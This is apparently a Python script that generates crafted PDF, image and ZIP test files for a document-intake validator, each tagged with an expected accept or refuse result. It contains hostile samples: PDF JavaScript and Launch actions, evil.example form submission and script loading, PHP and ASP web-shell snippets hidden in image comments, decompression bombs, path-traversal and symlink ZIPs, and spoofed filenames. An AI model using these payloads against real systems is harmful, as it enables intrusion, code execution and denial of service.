#!/usr/bin/env python3
"""Crafts the byte-level cases of the intake corpus (called by make.sh with the folder
holding the tool-made base files). Each case: name, expected verdict, status, code."""
import io
import os
import struct
import sys
import zipfile
import zlib

OUT = sys.argv[1]
ROWS = []


def put(name, data, verdict, status, code):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    ROWS.append((name, verdict, status, code))


def ok(name, data):
    put(name, data, "accept", 0, "ok")


def bad(name, data, status, code):
    put(name, data, "refuse", status, code)


def read(name):
    with open(os.path.join(OUT, name), "rb") as f:
        return f.read()


def pdf(objs, root=1, extra_trailer=b"", header_extra=b""):
    """A classic PDF with a correct xref table; objs are bodies of objects 1..n."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + header_extra)
    offs = []
    for i, body in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objs) + 1, root, extra_trailer, xref)
    return bytes(out)


def stream(d, extra=b""):
    return b"<< /Length %d %s>>\nstream\n" % (len(d), extra) + d + b"\nendstream"


CONTENT = stream(b"BT /F1 18 Tf 72 720 Td (Service record) Tj ET")
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def page_pdf(catalog_extra=b"", page_extra=b"", more=(), header_extra=b""):
    objs = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
            CONTENT, FONT]
    objs.extend(more)
    return pdf(objs, header_extra=header_extra)


JS = stream(b"app.alert('hi');")

# Genuine PDFs.
ok("pdf_crafted_simple.pdf", page_pdf())
ok("pdf_goto_openaction.pdf", page_pdf(b"/OpenAction [3 0 R /Fit] "))
ok("pdf_goto_action_dict.pdf", page_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> "))
ok("pdf_uri_link.pdf", page_pdf(page_extra=b"/Annots [6 0 R] ", more=[
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI "
    b"/URI (https://example.org/) >> >>"]))

# Active content.
bad("pdf_javascript_names.pdf", page_pdf(b"/Names << /JavaScript 6 0 R >> ", more=[
    b"<< /Names [(a) 7 0 R] >>", b"<< /S /JavaScript /JS 8 0 R >>", JS]), 422,
    "pdf_active_content")
bad("pdf_openaction_js.pdf", page_pdf(b"/OpenAction 6 0 R ", more=[
    b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"]), 422,
    "pdf_active_content")
bad("pdf_js_escaped_names.pdf", page_pdf(b"/OpenAction 6 0 R ", more=[
    b"<< /Type /Action /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>"]), 422,
    "pdf_active_content")
bad("pdf_launch.pdf", page_pdf(b"/OpenAction 6 0 R ", more=[
    b"<< /S /Launch /F (cmd.exe) >>"]), 422, "pdf_active_content")
bad("pdf_embedded_file.pdf", page_pdf(b"/Names << /EmbeddedFiles 6 0 R >> ", more=[
    b"<< /Names [(a.exe) 7 0 R] >>",
    b"<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>",
    stream(b"MZ", b"/Type /EmbeddedFile ")]), 422, "pdf_active_content")
bad("pdf_xfa.pdf", page_pdf(b"/AcroForm << /Fields [] /XFA 6 0 R >> ", more=[
    stream(b"<xdp:xdp/>")]), 422, "pdf_active_content")
bad("pdf_aa.pdf", page_pdf(page_extra=b"/AA << /O 6 0 R >> ", more=[
    b"<< /S /Named /N /NextPage >>"]), 422, "pdf_active_content")
bad("pdf_submitform.pdf", page_pdf(page_extra=b"/Annots [6 0 R] ", more=[
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm "
    b"/F (https://evil.example/) >> >>"]), 422, "pdf_active_content")
bad("pdf_gotor.pdf", page_pdf(page_extra=b"/Annots [6 0 R] ", more=[
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR "
    b"/F (other.pdf) /D [0 /Fit] >> >>"]), 422, "pdf_active_content")
bad("pdf_importdata.pdf", page_pdf(b"/OpenAction << /S /ImportData /F (x.fdf) >> "), 422,
    "pdf_active_content")
bad("pdf_richmedia.pdf", page_pdf(page_extra=b"/Annots [6 0 R] ", more=[
    b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"]), 422,
    "pdf_active_content")
bad("pdf_unreferenced_js.pdf", page_pdf(more=[
    b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"]), 422,
    "pdf_active_content")
bad("pdf_openaction_named.pdf", page_pdf(b"/OpenAction << /S /Named /N /Print >> "), 422,
    "pdf_active_content")

# Structure.
good = read("pdf_simple.pdf")
bad("pdf_trailing_data.pdf", good + b"GARBAGE AFTER THE END\n", 422, "trailing_data")
bad("pdf_nul_after_eof.pdf", good + b"\0\0\0\0", 422, "trailing_data")
bad("pdf_junk_before_header.pdf", b"<html>hello</html>\n" + good, 422, "junk_before_header")
bad("pdf_truncated.pdf", good[: len(good) // 2], 422, "pdf_unparseable")
bad("pdf_header_only.pdf", b"%PDF-1.4\n%%EOF\n", 422, "pdf_unparseable")
p = page_pdf()
x = p.rindex(b"startxref\n") + len(b"startxref\n")
bad("pdf_bad_xref.pdf", p[:x] + b"%d\n%%%%EOF\n" % (int(p[x:].split(b"\n")[0]) + 7), 422,
    "pdf_unparseable")
i = p.index(b"0000000", p.index(b"xref\n0 ") + 30)
bad("pdf_bad_xref_offset.pdf", p[:i] + b"0000000001" + p[i + 10:], 422, "pdf_unparseable")
bad("pdf_broken_object.pdf", pdf([
    b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]), 422, "pdf_unparseable")


def incremental(base, objs, size):
    """Appends an update revision replacing or adding objects {number: body}."""
    prev = int(base[base.rindex(b"startxref") + 10:].split(b"\n")[0])
    out = bytearray(base)
    offs = {}
    for n, body in sorted(objs.items()):
        offs[n] = len(out)
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for n, o in sorted(offs.items()):
        out += b"%d 1\n%010d 00000 n \n" % (n, o)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, prev, x)
    return bytes(out)


ok("pdf_incremental_update.pdf", incremental(p, {4: stream(b"BT /F1 18 Tf 72 700 Td "
                                                           b"(Corrected) Tj ET")}, 6))
bad("pdf_incremental_js.pdf", incremental(p, {
    1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
    6: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}, 7), 422, "pdf_active_content")
bad("pdf_js_escaped_annot.pdf", page_pdf(page_extra=b"/Annots [6 0 R] ", more=[
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 7 0 R >>",
    b"<< /Type /Action /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>"]), 422,
    "pdf_active_content")

# An object stream that inflates to 400 MB from 400 KB: qpdf would hold it all in memory.
co = zlib.compressobj(9)
bomb = co.compress(b"5 0 ") + co.compress(b" " * (400 << 20)) + co.compress(b"<< >>") + co.flush()
objs = [b"<< /Type /Catalog /Pages 2 0 R /Foo 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(bomb) + bomb + b"\nendstream"]
out = bytearray(b"%PDF-1.7\n")
offs = []
for i, o in enumerate(objs, 1):
    offs.append(len(out))
    out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
x = len(out)
xs = b"".join([struct.pack(">BIH", 0, 0, 65535)] +
              [struct.pack(">BIH", 1, o, 0) for o in offs] +
              [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, x, 0)])
out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(xs) + xs + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % x)
bad("pdf_objstm_bomb.pdf", bytes(out), 422, "pdf_too_complex")

z = zlib.compress(b"BT /F1 18 Tf 72 720 Td (Service record) Tj ET" * 20)
bad("pdf_flate_truncated.pdf", page_pdf(more=[
    b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % (len(z) // 2) + z[:len(z) // 2] +
    b"\nendstream"]), 422, "pdf_unparseable")
bad("pdf_flate_not_zlib.pdf", page_pdf(more=[
    b"<< /Length 20 /Filter /FlateDecode >>\nstream\nhello world not zlib\nendstream"]),
    422, "pdf_unparseable")
bad("pdf_no_pages.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                            b"<< /Type /Pages /Kids [] /Count 0 >>"]), 422, "pdf_unparseable")
bad("pdf_page_tree_loop.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                                   b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]), 422,
    "pdf_unparseable")

# Polyglots.
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("payload.html", "<script>alert(1)</script>")
bad("polyglot_pdf_zip.pdf", good + buf.getvalue(), 422, "trailing_data")
f = io.BytesIO(good)
f.seek(0, 2)
with zipfile.ZipFile(f, "a") as z:
    z.writestr("payload.html", "<script>alert(1)</script>")
    z.comment = b"\n%%EOF\n"
bad("polyglot_pdf_zip_comment.pdf", f.getvalue(), 422, "polyglot")
bad("polyglot_jpeg_zip.jpg", read("photo.jpg") + buf.getvalue(), 422, "trailing_data")

# Images.
def chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))


SIG = b"\x89PNG\r\n\x1a\n"
ihdr = struct.pack(">IIBBBBB", 100000, 100000, 8, 0, 0, 0, 0)
bad("png_pixel_flood.png", SIG + chunk(b"IHDR", ihdr) +
    chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b""), 422, "image_too_large")
png = read("scan.png")
bad("png_trailing_data.png", png + b"trailing bytes", 422, "trailing_data")
# Change the first IDAT's CRC: the data is intact, the checksum no longer matches.
j = png.index(b"IDAT")
j += 4 + struct.unpack(">I", png[j - 4:j])[0]
bad("png_bad_crc.png", png[:j] + bytes([png[j] ^ 0xff]) + png[j + 1:], 422, "image_corrupt")
k = png.index(b"IDAT") - 4
text = chunk(b"tEXt", b"Comment\0hello")
text = text[:-1] + bytes([text[-1] ^ 1])
bad("png_bad_crc_ancillary.png", png[:k] + text + png[k:], 422, "image_corrupt")
bad("png_truncated.png", png[: len(png) * 2 // 3], 422, "image_corrupt")
jpg = read("photo.jpg")
sof = jpg.index(b"\xff\xc0")
flood = jpg[:sof + 5] + struct.pack(">HH", 60000, 60000) + jpg[sof + 9:]
bad("jpeg_pixel_flood.jpg", flood, 422, "image_too_large")
bad("jpeg_truncated.jpg", jpg[: len(jpg) * 2 // 3], 422, "image_corrupt")
bad("jpeg_trailing_data.jpg", jpg + b"\0" * 16, 422, "trailing_data")
sos = jpg.index(b"\xff\xda")
mid = sos + (len(jpg) - sos) // 2
bad("jpeg_corrupt_data.jpg", jpg[:mid] + b"\xff\xd9" + jpg[mid:], 422, "image_corrupt")
# A 187-byte progressive JPEG of 6000x6000 pixels (under the pixel cap) in ten
# full-size components: libjpeg would keep 720 MB of coefficients before reading a scan.
seg = lambda m, d: b"\xff" + m + struct.pack(">H", len(d) + 2) + d
many = (b"\xff\xd8" + seg(b"\xdb", b"\0" + b"\1" * 64) +
        seg(b"\xc2", struct.pack(">BHHB", 8, 6000, 6000, 10) +
            b"".join(bytes([i + 1, 0x11, 0]) for i in range(10))) +
        seg(b"\xda", bytes([1, 1, 0, 0, 0, 0])) + b"\0" * 64 + b"\xff\xd9")
bad("jpeg_progressive_many_components.jpg", many, 422, "image_too_complex")
# Six zTXt chunks that inflate to 4 MB each: libpng keeps all 24 MB of text until the end
# (accepted within the default image memory; a smaller limit refuses it).
big_text = zlib.compress(b"a" * (4 * 1024 * 1024 - 64), 9)
texts = b"".join(chunk(b"zTXt", b"Comment%d\0\0" % i + big_text) for i in range(6))
ok("png_large_text.png", png[:k] + texts + png[k:])

# Not accepted at all.
bad("empty.pdf", b"", 422, "empty_file")
bad("one_byte.pdf", b"%", 415, "type_not_accepted")
bad("page.html", b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n",
    415, "type_not_accepted")
bad("drawing.svg", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
    b'width="10" height="10"><script>alert(1)</script></svg>\n', 415, "type_not_accepted")
bad("notes.txt", b"just some text\n", 415, "type_not_accepted")
# Found by the fuzzer: libmagic itself fails on these bytes (broken UTF-32).
bad("magic_error_utf32.bin", bytes.fromhex("0000fefffdff7c6e"), 415, "type_not_accepted")
with open("/bin/true", "rb") as t:
    bad("exe_renamed.pdf", t.read(), 415, "type_not_accepted")


# ZIP bundles.
def mkzip(entries, comment=b"", method=zipfile.ZIP_DEFLATED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for e in entries:
            name, data = e[0], e[1]
            zi = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
            zi.compress_type = method
            if len(e) > 2:
                zi.create_system = 3
                zi.external_attr = e[2] << 16
            z.writestr(zi, data)
        z.comment = comment
    return b.getvalue()


import warnings
warnings.simplefilter("ignore")
ok("bundle_good.zip", mkzip([("service/appointment.pdf", good), ("photo.jpg", jpg),
                             ("scan.png", png)]))
ok("bundle_stored.zip", mkzip([("a.pdf", good)], method=zipfile.ZIP_STORED))
ok("bundle_utf8_name.zip", mkzip([("नियुक्ति पत्र.pdf", good)]))
bad("zip_bomb.zip", mkzip([("big.pdf", b"%PDF-1.4\n" + b"\0" * (40 << 20))]), 422, "zip_bomb")
bad("zip_nested.zip", mkzip([("a.pdf", good), ("inner.zip", mkzip([("b.pdf", good)]))]), 422,
    "zip_nested")
bad("zip_nested_targz.zip", mkzip([("docs.tar.gz", read("archive.tar.gz"))]), 422,
    "zip_nested")
bad("zip_traversal.zip", mkzip([("../x.pdf", good)]), 422, "zip_path_traversal")
bad("zip_traversal_inner.zip", mkzip([("a/../../x.pdf", good)]), 422, "zip_path_traversal")
bad("zip_absolute.zip", mkzip([("/x.pdf", good)]), 422, "zip_absolute_path")
bad("zip_drive_letter.zip", mkzip([("C:/x.pdf", good)]), 422, "zip_absolute_path")
bad("zip_backslash.zip", mkzip([("dir\\x.pdf", good)]), 422, "zip_bad_name")
bad("zip_control_char.zip", mkzip([("a\x01b.pdf", good)]), 422, "zip_bad_name")
bad("zip_invalid_utf8_name.zip", mkzip([("a.pdf", good), ("bQQ.pdf", good)])
    .replace(b"bQQ.pdf", b"b\xff\xfe.pdf"), 422, "zip_bad_name")
bad("zip_symlink.zip", mkzip([("a.pdf", good), ("link.pdf", "/etc/passwd", 0o120777)]), 422,
    "zip_symlink")
bad("zip_many_entries.zip", mkzip([("f%04d.txt" % n, "x") for n in range(2000)],
                                  method=zipfile.ZIP_STORED), 422, "zip_too_many_entries")
bad("zip_duplicate.zip", mkzip([("a.pdf", good), ("a.pdf", good)]), 422,
    "zip_duplicate_name")
bad("zip_duplicate_case.zip", mkzip([("A.pdf", good), ("a.PDF", good)]), 422,
    "zip_duplicate_name")
bad("zip_bad_entry.zip", mkzip([("a.pdf", good), ("photo.jpg", jpg),
                                ("js.pdf", read("pdf_openaction_js.pdf"))]), 422,
    "pdf_active_content")
bad("zip_html_entry.zip", mkzip([("a.pdf", good), ("page.html", read("page.html"))]), 415,
    "type_not_accepted")
bad("zip_empty_entry.zip", mkzip([("a.pdf", good), ("empty.pdf", b"")]), 422, "empty_file")
bad("zip_only_dir.zip", mkzip([("dir/", b"", 0o40755)]), 422, "zip_empty")
bad("zip_no_entries.zip", mkzip([]), 422, "zip_empty")
gz = mkzip([("a.pdf", good), ("b.pdf", good)])
cd = gz.index(b"PK\x01\x02", gz.index(b"PK\x01\x02") + 4)
bad("zip_corrupt_cd.zip", gz[:cd] + b"PK\x09\x09" + gz[cd + 4:], 422, "zip_corrupt")
bad("zip_trailing_data.zip", gz + b"tail", 422, "zip_corrupt")
st = mkzip([("a.pdf", good)], method=zipfile.ZIP_STORED)
j = st.index(b"%%EOF")
bad("zip_bad_crc.zip", st[:j] + b"%%EOX" + st[j + 5:], 422, "zip_corrupt")
lh = gz.index(b"PK\x03\x04", 4)
bad("zip_corrupt_data.zip", gz[:lh - 20] + bytes([gz[lh - 20] ^ 0x55]) + gz[lh - 19:], 422,
    "zip_corrupt")
a = gz.index(b"a.pdf")
bad("zip_name_mismatch.zip", gz[:a] + b"x.pdf" + gz[a + 5:], 422, "zip_corrupt")

# issue 10: hostile files an attacker would try, and genuine files that must still pass.
def zip_raw_names(entries):
    """A ZIP whose entry names are raw bytes (zipfile cuts names at a NUL): written with
    placeholders of the same length, then the bytes put in both headers."""
    ph = [(b"n%0*d" % (len(n) - 1, i)).decode() for i, (n, _) in enumerate(entries)]
    out = mkzip([(p, d) for p, (_, d) in zip(ph, entries)])
    for p, (n, _) in zip(ph, entries):
        assert out.count(p.encode()) == 2
        out = out.replace(p.encode(), n)
    return out


bad("zip_name_nul.zip", zip_raw_names([(b"invoice.pdf\0.exe", good)]), 422, "zip_bad_name")
bad("zip_name_rlo.zip", mkzip([("invoice\u202efdp.exe", good)]), 422, "zip_bad_name")
bad("zip_name_zero_width.zip", mkzip([("a.pdf", good), ("a\u200b.pdf", good)]), 422,
    "zip_bad_name")
bad("zip_name_c1.zip", zip_raw_names([(b"cert\xc2\x85.pdf", good)]), 422, "zip_bad_name")
bad("zip_name_rli_isolate.zip", mkzip([("cert\u2067fdp.exe\u2069.pdf", good)]), 422,
    "zip_bad_name")
bad("zip_name_bad_utf8.zip", zip_raw_names([(b"cert\xff.pdf", good)]), 422, "zip_bad_name")
bad("zip_name_double_ext.zip", mkzip([("invoice.pdf.exe", good)]), 422,
    "file_name_executable")
bad("zip_name_php_jpg.zip", mkzip([("photo.php.jpg", read("photo.jpg"))]), 422,
    "file_name_executable")
ok("bundle_degree_names.zip", mkzip([("M.Com marksheet.pdf", good), ("B.Com.pdf", good),
                                     ("स्नातक प्रमाण पत्र.pdf", good)]))


def link_pdf(uri):
    return page_pdf(page_extra=b"/Annots [6 0 R] ", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI " + uri +
        b" >> >>"])


bad("pdf_uri_file.pdf", link_pdf(b"(file:///C:/Windows/System32/calc.exe)"), 422,
    "pdf_external_link")
bad("pdf_uri_smb.pdf", link_pdf(b"(smb://203.0.113.7/share/x.pdf)"), 422, "pdf_external_link")
bad("pdf_uri_unc.pdf", link_pdf(b"(\\\\\\\\203.0.113.7\\\\share\\\\x.pdf)"), 422,
    "pdf_external_link")
bad("pdf_uri_hex_file.pdf", link_pdf(b"<" + b"FILE://host/x".hex().encode() + b">"), 422,
    "pdf_external_link")
bad("pdf_uri_javascript.pdf", link_pdf(b"(javascript:alert\\(1\\))"), 422,
    "pdf_external_link")
bad("pdf_uri_base_file.pdf", page_pdf(b"/URI << /Base (file://203.0.113.7/) >> "), 422,
    "pdf_external_link")
ok("pdf_uri_mailto.pdf", link_pdf(b"(mailto:sos-help@hry.nic.in)"))
ok("pdf_uri_https_upper.pdf", link_pdf(b"( HTTPS://haryana.gov.in/)"))
bad("pdf_launch_annot.pdf", page_pdf(page_extra=b"/Annots [6 0 R] ", more=[
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /Win << /F "
    b"(cmd.exe) >> >> >>"]), 422, "pdf_active_content")
bad("pdf_gotoe.pdf", page_pdf(page_extra=b"/Annots [6 0 R] ", more=[
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToE /T << /R /C /N "
    b"(a) >> >> >>"]), 422, "pdf_active_content")

# Markup a browser sniffs or an interpreter runs, in otherwise valid documents.
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
PHP = b"<?php system($_GET['c']); ?>"
bad("pdf_comment_html.pdf", page_pdf(header_extra=b"%" + HTML + b"\n"), 422, "hidden_markup")
bad("pdf_comment_php.pdf", page_pdf(header_extra=b"%" + PHP + b"\n"), 422, "hidden_markup")
bad("pdf_stream_html.pdf", page_pdf(more=[stream(b"<!DOCTYPE html>\n" + HTML)]), 422,
    "hidden_markup")
zh = zlib.compress(b"<SCRIPT src=//evil.example/x.js></SCRIPT>")
bad("pdf_flate_stream_script.pdf", page_pdf(more=[
    b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(zh) + zh + b"\nendstream"]),
    422, "hidden_markup")
jp = read("photo.jpg")


def jpeg_segment(marker, data):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data


bad("jpeg_comment_html.jpg", jp[:2] + jpeg_segment(0xFE, HTML) + jp[2:], 422,
    "hidden_markup")
bad("jpeg_comment_php.jpg", jp[:2] + jpeg_segment(0xFE, PHP) + jp[2:], 422, "hidden_markup")
bad("jpeg_app15_asp.jpg", jp[:2] + jpeg_segment(0xEF, b"<% eval request(\"x\") %>") + jp[2:],
    422, "hidden_markup")
bad("jpeg_comment_jsp.jpg", jp[:2] + jpeg_segment(0xFE, b"<jsp:scriptlet>x</jsp:scriptlet>") +
    jp[2:], 422, "hidden_markup")
ok("jpeg_comment_plain.jpg", jp[:2] + jpeg_segment(0xFE, b"Scanned at 300 dpi, 2024-01-05 "
                                                          b"<office copy> 50% reduced") + jp[2:])
xmp = (b"http://ns.adobe.com/xap/1.0/\0<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>"
       b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/"
       b"22-rdf-syntax-ns#'><rdf:Description><dc:title>Certificate</dc:title>"
       b"</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end='w'?>")
ok("jpeg_xmp.jpg", jp[:2] + jpeg_segment(0xE1, xmp) + jp[2:])
pn = read("scan.png")
k = pn.index(b"IDAT") - 4
bad("png_private_chunk_html.png", pn[:33] + chunk(b"prVt", HTML) + pn[33:], 422,
    "hidden_markup")
bad("png_text_php.png", pn[:33] + chunk(b"tEXt", b"Comment\0" + PHP) + pn[33:], 422,
    "hidden_markup")
bad("png_ztxt_script.png", pn[:k] + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(HTML)) +
    pn[k:], 422, "hidden_markup")
ok("png_text_plain.png", pn[:33] + chunk(b"tEXt", b"Software\0GIMP 2.10 <scan>") + pn[33:])

with open(os.path.join(OUT, "crafted.tsv"), "w") as f:
    for r in ROWS:
        f.write("%s\t%s\t%d\t%s\n" % r)
